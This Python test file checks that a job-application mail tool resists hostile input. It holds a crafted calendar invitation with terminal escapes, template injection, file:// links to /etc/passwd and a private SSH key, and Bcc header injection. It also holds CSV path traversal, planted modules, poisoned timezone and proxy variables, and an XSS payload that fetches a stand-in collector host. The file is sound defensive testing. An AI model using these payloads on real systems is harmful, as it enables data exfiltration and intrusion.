"""Attacks by all else that the program is given: calendars, tables, zones, editors, browsers.

Each is a file or a variable that somebody else may have had a hand in.
"""

import base64
import json
import re
import subprocess
import threading
from importlib import resources
from pathlib import Path

from mail.peer import Peer
from servers.victim import COMMAND, DAVID, MARIA, Machine, Scene

THANK = ("send", "thank-you", "northwind", "--to", "maria", "--yes")
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----"
_LATER = ("--later", "2026-11-20 14:00")
_CONTROL = re.compile("[\\x00-\\x08\\x0b-\\x1f\\x7f\\x80-\\x9f\N{RIGHT-TO-LEFT OVERRIDE}]")
_HOSTILE = """\
BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//x//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:{uid}
SEQUENCE:999999999999999999999
DTSTAMP:20261027T150000Z
DTSTART:20261126T140000Z
DURATION:PT30M
SUMMARY:\x1b]0;owned\x07\N{RIGHT-TO-LEFT OVERRIDE}Interview {{{{ me.email }}}}
DESCRIPTION:{{% include "/etc/passwd" %}}
LOCATION:file:///etc/passwd
ATTACH:file://{private}
ATTACH;ENCODING=BASE64;VALUE=BINARY:AAAA
ORGANIZER;CN="Eve\x1b[2J Mallory":mailto:eve@boreal.example?bcc=drop@collector.example
ATTENDEE;CN="Bcc: drop@collector.example":mailto:drop@collector.example%0d%0aBcc:x@collector.example
ATTENDEE;CN="Sam Okafor":mailto:sam.okafor@example.com
END:VEVENT
END:VCALENDAR
"""


def _kept(scene: Scene, **changes: str) -> Machine:
    machine = scene.machine()
    machine.must("add", machine.job(**changes))
    return machine


def _readers(scene: Scene) -> list[str]:
    return [reader for each in scene.server.arrived for reader in each.rcpt_to]


def _program(machine: Machine, name: str, *lines: str) -> Path:
    path = machine.file(name, "\n".join(["#!/bin/sh", *lines, ""]))
    path.chmod(0o700)
    return path


# Calendars and tables


def test_a_hostile_invitation_neither_sends_nor_shows_control_characters(scene: Scene) -> None:
    """Row 81: names with escapes, readers in an address, templates and files in its fields.

    Anybody who knows an address can send its owner an invitation.
    """
    machine = _kept(scene)
    private = machine.file(".ssh/id_ed25519", KEY)
    text = _HOSTILE.format(uid="1@x", private=private).replace("\n", "\r\n")
    invitation = machine.file("invitation.ics", text)
    new = ("--employer", "Boreal", "--position", "Site Engineer", "--language", "en-CA")

    machine.run("add", invitation, "--for", "northwind")
    machine.run("add", machine.file("other.ics", text.replace("1@x", "2@x")), *new)
    for words in (("next",), ("list",), ("show", "northwind"), ("show", "boreal"), ("board",)):
        machine.run(*words)
    machine.run(*THANK)

    assert all(not _CONTROL.search(ran.out + ran.err) for ran in machine.log), machine.story
    assert set(_readers(scene)) <= {MARIA}, machine.story
    for each in scene.server.arrived:
        assert KEY.encode() not in each.data
        assert not list(each.message.iter_attachments())
        assert set(each.message.keys()) >= {"From", "To"}
        assert "Bcc" not in each.message


def test_a_shared_table_reaches_no_file_outside_its_folder(scene: Scene) -> None:
    """Row 82: of a coach with many candidates, each of whom may write a row.

    One of them gets the others' files, or whatever the coach's machine holds.
    """
    machine = scene.machine()
    machine.file(".ssh/id_ed25519", KEY)
    link = machine.folder / "shared" / "cv.pdf"
    machine.file("shared/here.txt", "")
    link.symlink_to(machine.folder / ".ssh" / "id_ed25519")
    for path in ("/etc/passwd", "../.ssh/id_ed25519", "~/.ssh/id_ed25519", "cv.pdf"):
        columns = {
            "employer": "Northwind Analytics",
            "position": "Data Engineer",
            "language": "en-CA",
            "attachments": path,
            "people.maria.name": "Maria Lopez",
            "people.maria.role": "recruiter",
            "people.maria.email": MARIA,
            "interviews.0.at": "2026-11-19T14:00:00-05:00",
        }
        rows = [",".join(f'"{value}"' for value in line) for line in (columns, columns.values())]
        table = machine.file("shared/many.csv", "\n".join(rows) + "\n")

        refused = machine.refused("add", table)

        assert refused.status == 65, refused
        assert "folder" in refused.said or "attachments" in refused.said, refused


def test_an_attachment_replaced_after_queueing_does_not_leave(scene: Scene) -> None:
    """Row 82: what was shown and agreed to is what leaves, or nothing.

    Whoever may write beside the application file chooses what goes out under its name.
    """
    machine = scene.machine()
    plan = machine.file("plan.txt", "One page.\n")
    machine.must("add", machine.job(top='attachments = ["plan.txt"]'))
    machine.must("send", "thank-you", "northwind", "--to", "david", "--yes", *_LATER)
    plan.write_text(KEY)
    machine.at("2026-11-20 14:05")

    told = machine.run("outbox", "deliver")

    # Whatever was or wasn't sent: not this.
    forms = (KEY.encode(), base64.b64encode(KEY.encode())[:40])
    assert not any(form in each.data for each in scene.server.arrived for form in forms)
    assert _readers(scene) == [] or b"One page" in scene.server.arrived[0].data
    assert "plan.txt" in told.said or DAVID in told.said, told


def test_a_template_that_anybody_may_write_sends_nothing(scene: Scene) -> None:
    """Row 82: the words of a message, in a file that others can change.

    A queue or `--yes` sends their words under the user's name.
    """
    machine = _kept(scene)
    (machine.data / "templates" / "en").mkdir(parents=True, mode=0o700)
    shown = machine.must("template", "show", "thank-you", "--language", "en-CA").out
    words = shown.replace("Subject: Thank you", "Subject: I withdraw")
    assert words != shown, shown
    template = machine.file("kept/templates/en/thank-you.txt", words)
    template.chmod(0o666)

    ran = machine.run(*THANK)

    assert not any("withdraw" in each.message["Subject"] for each in scene.server.arrived), ran
    assert "chmod" in ran.said or scene.server.arrived, ran


# The environment


def _zones(machine: Machine, content: bytes) -> dict[str, str]:
    folder = machine.folder / "zones" / "America"
    folder.mkdir(parents=True)
    (folder / "Toronto").write_bytes(content)
    return {name: str(folder.parent) for name in ("PYTHONTZPATH", "TZDIR")}


def test_time_zones_of_somebody_else_move_no_hour(scene: Scene) -> None:
    """Row 55: "14:00" is two in the afternoon there, whatever the system's files say.

    A file of zones that is old, or somebody's, sends mail in the middle of the night.
    """
    machine = _kept(scene)
    honolulu = resources.files("tzdata").joinpath("zoneinfo", "Pacific", "Honolulu").read_bytes()
    environment = _zones(machine, honolulu)

    machine.run(*THANK, *_LATER, environment=environment)

    listed = json.loads(machine.must("outbox", "list", "--json").out)
    assert [each["not_before"][:16] for each in listed] == ["2026-11-20T19:00"], machine.story


def test_damaged_time_zones_break_nothing(scene: Scene) -> None:
    """Row 55: a file that is none is told, or not needed at all."""
    machine = _kept(scene)
    environment = _zones(machine, b"TZif2" + b"\0" * 39 + b"no zone\n")

    for words in (("next",), ("show", "northwind"), THANK):
        ran = machine.run(*words, environment=environment)
        assert ran.status != 1, ran


def test_a_relative_state_folder_is_none(scene: Scene) -> None:
    """Row 54: XDG_STATE_HOME has to be absolute, or it doesn't count (XDG 0.8).

    In another folder the same command would not find what it wrote down.
    """
    machine = _kept(scene)
    machine.environment["XDG_STATE_HOME"] = "state"
    copy = machine.copy("backup")
    elsewhere = machine.folder / "elsewhere"
    elsewhere.mkdir()
    machine.run(*THANK)
    machine.restore(copy)

    machine.run(*THANK, cwd=elsewhere)

    assert _readers(scene) == [MARIA], machine.story


def test_no_proxy_of_the_environment_is_asked(scene: Scene) -> None:
    """Row 86: whatever a proxy's variable says, mail goes to the account's server.

    A variable that a shell sets for the web would let somebody else answer.
    """
    machine = _kept(scene)
    with Peer() as proxy:
        there = f"http://127.0.0.1:{proxy.port}"
        names = ("http_proxy", "https_proxy", "all_proxy", "ftp_proxy", "socks_proxy")
        variables = {each: there for name in names for each in (name, name.upper())}
        machine.run(*THANK, environment={**variables, "SMTP_PROXY": there})

        assert proxy.connections == 0

    assert _readers(scene) == [MARIA]


def test_the_keys_of_a_session_are_written_nowhere(scene: Scene) -> None:
    """Row 85: SSLKEYLOGFILE, which OpenSSL's users know and others set for them.

    Whoever reads that file reads the password and every message.
    """
    machine = _kept(scene)
    log = machine.folder / "keys"

    machine.run(*THANK, environment={"SSLKEYLOGFILE": str(log)})

    assert _readers(scene) == [MARIA]
    assert not log.exists() or not log.read_bytes()


def test_modules_of_the_folder_one_is_in_are_not_loaded(scene: Scene) -> None:
    """Row 86: as where a shared folder holds a `keyring.py`.

    The command runs as ever in a folder of somebody else's.
    """
    machine = _kept(scene)
    shared = machine.folder / "shared"
    for name in ("keyring", "jinja2", "click", "json", "followup_mail", "sitecustomize"):
        marker = f'open({str(machine.folder / "loaded")!r}, "a").write({name!r})\n'
        machine.file(f"shared/{name}.py", marker)

    for words in (("next",), ("doctor",), ("account", "check")):
        environment = machine.environment
        subprocess.run(
            [COMMAND, *words],
            cwd=shared,
            env=environment,
            check=False,
            timeout=30,
            capture_output=True,
        )

    assert not (machine.folder / "loaded").exists()


# Editor and browser


def test_an_editor_gets_a_file_that_is_the_user_s_alone(scene: Scene) -> None:
    """Row 83: with a umask of nought too; and what fails, or isn't there, changes nothing.

    The file holds names, addresses, and what was thought of people.
    """
    machine = _kept(scene)
    seen = machine.folder / "seen"
    editor = _program(
        machine, "editor", f'stat -c "%a" "$1" "$(dirname "$1")" > {seen}', f'ls -l "$1" >> {seen}'
    )
    before = machine.must("show", "northwind", "--file").out
    machine.under = ("sh", "-c", 'umask 0; exec "$@"', "sh")

    machine.run("edit", "northwind", environment={"EDITOR": str(editor), "VISUAL": ""})
    for broken in ("false", "/nowhere/editor", "'unclosed", "sh -c 'kill -9 $$'"):
        ran = machine.run("edit", "northwind", environment={"EDITOR": broken, "VISUAL": broken})
        assert ran.err.strip(), ran

    mode, folder = seen.read_text().split()[:2]
    assert int(folder, 8) & 0o077 == 0 or int(mode, 8) & 0o077 == 0, (mode, folder)
    assert machine.must("show", "northwind", "--file").out == before


def test_a_browser_gets_a_page_that_runs_and_fetches_nothing(scene: Scene) -> None:
    """Row 71: whatever names and subjects hold; and the page is the user's alone.

    A name in an application file is a line that somebody else typed.
    """
    evil = 'Northwind <img src=x onerror=fetch("//collector.example")> Analytics'
    machine = scene.machine()
    text = machine.job().read_text("utf-8").replace('"Northwind Analytics"', f"'{evil}'")
    added = machine.run("add", machine.file("evil.toml", text), "--name", "northwind")
    page = machine.folder / "page.html"
    browser = _program(machine, "browser", f'cp "${{1#file://}}" {page}')
    environment = {"BROWSER": f"{browser} %s", "DISPLAY": ":99"}

    machine.run("preview", "thank-you", "northwind", "--browser", environment=environment)
    wait = threading.Event()
    for _ in range(30):
        if page.exists() or added.status:
            break
        wait.wait(0.1)

    if page.exists():
        shown = page.read_text("utf-8")
        assert "<img" not in shown
        assert "<script" not in shown
        assert not re.search(r"(src|href)=[\"']?(https?:)?//", shown), shown
